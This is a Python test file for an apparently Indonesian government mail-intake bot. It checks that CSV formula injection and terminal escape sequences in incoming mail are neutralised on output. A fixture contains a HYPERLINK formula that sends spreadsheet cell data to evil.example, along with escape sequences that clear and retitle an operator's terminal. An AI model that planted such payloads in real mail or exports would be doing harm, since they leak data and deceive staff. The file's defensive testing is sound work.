"""Nothing a stranger writes into a mail becomes a formula in staff's spreadsheet or an escape
sequence in the operator's terminal (#16 item 6)."""

from __future__ import annotations

import base64
import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from mailbot.cli import main
from mailbot.core.safe_output import csv_cell, json_text, terminal_text
from mailbot.shell import models
from tests.desk import Desk

TITLE_AND_CLEAR = "\x1b]0;mailbot diretas\x07\x1b[2J\x1b[H"


def hostile_request() -> bytes:
    """A request whose name and work unit carry a terminal escape and a spreadsheet formula
    (quoted-printable, as a mail client would send bytes like ESC), and whose subject carries
    an 8-bit CSI (U+009B) in an RFC 2047 encoded word."""
    return (
        "From: Rina Kartika <rina.kartika@kemendesa.example.go.id>\r\n"
        "To: konsultasi@bpsdm.example.go.id\r\n"
        "Subject: =?utf-8?b?" + base64.b64encode("Konsultasi \u009b2J ABK".encode()).decode() + "?=\r\n"
        "Date: Fri, 04 Dec 2026 09:00:00 +0700\r\n"
        "Message-ID: <hostile-1@kemendesa.example.go.id>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n"
        "\r\n"
        "Nama Lengkap : =1B]0;mailbot diretas=07=1B[2J=1B[HRina Kartika\r\n"
        "NIP          : 19860926 201505 2 001\r\n"
        'Unit Kerja   : =3DHYPERLINK("http://evil.example/?x=3D"&A1,"Klik")\r\n'
        "Jabatan      : Analis Kebijakan Ahli Muda\r\n"
        "No. HP       : 0812-3456-7890\r\n"
        "\r\n"
        "Permasalahan:\r\n"
        "Bagaimana tata cara penyusunan Analisis Beban Kerja?\r\n"
    ).encode()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+62 812 3456 7890", "'+62 812 3456 7890"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Biro Perencanaan", "Biro Perencanaan"),
        (-5, -5),
        (-2.5, -2.5),
        ("", ""),
    ],
)
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_terminal_text() -> None:
    assert terminal_text(f"{TITLE_AND_CLEAR}Rina") == "Rina"
    assert terminal_text("a\u009b2Jb\u009d0;x\u009cc\x1bcd") == "abcd"
    assert terminal_text("Rina\r\nKartika\x00\x7f") == "Rina Kartika"
    assert terminal_text("baris 1\r\nbaris 2\x1b[31m", one_line=False) == "baris 1\nbaris 2"
    assert terminal_text("Dédé Suryadi\tx") == "Dédé Suryadi\tx"


def test_json_output_escapes_controls() -> None:
    text = json_text({"name": f"{TITLE_AND_CLEAR}Dédé \u009b2J"})
    assert "\x1b" not in text and "\u009b" not in text and "Dédé" in text
    assert json.loads(text) == {"name": f"{TITLE_AND_CLEAR}Dédé \u009b2J"}


def test_cli_prints_no_escape_sequences(
    desk: Desk, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    desk.deliver(hostile_request())
    ticket = desk.ticket()
    assert "\x1b" in ticket.applicant_name + str(ticket.fields)  # stored as received
    assert "\u009b" in ticket.subject
    config = str(tmp_path / "mailbot.toml")
    for argv in (["tickets", "list"], ["tickets", "show", ticket.number], ["outbox", "list"]):
        capsys.readouterr()
        assert main(["--config", config, *argv]) == 0
        out = capsys.readouterr().out
        assert not any(c in out for c in "\x1b\x07\u009b"), (argv, out)
    capsys.readouterr()
    assert main(["--config", config, "tickets", "show", ticket.number]) == 0
    assert "Rina Kartika" in capsys.readouterr().out
    assert main(["--config", config, "tickets", "show", "--json", ticket.number]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u009b" not in out
    assert json.loads(out)["subject"] == ticket.subject


def test_archive_index_has_no_formula(desk: Desk, tmp_path: Path) -> None:
    desk.deliver(hostile_request())
    with desk.app.sessions() as s:
        unit = s.execute(select(models.Ticket)).scalars().one().fields["unit"]
    assert unit.startswith("=HYPERLINK")
    out = tmp_path / "arsip.mbox"
    assert main(["--config", str(tmp_path / "mailbot.toml"), "export", "mbox", str(out)]) == 0
    with (tmp_path / "arsip.index.csv").open(newline="", encoding="utf-8") as f:
        [row] = list(csv.DictReader(f))
    assert row["applicant_unit"] == "'" + unit
    assert row["survey_ikm"] == ""
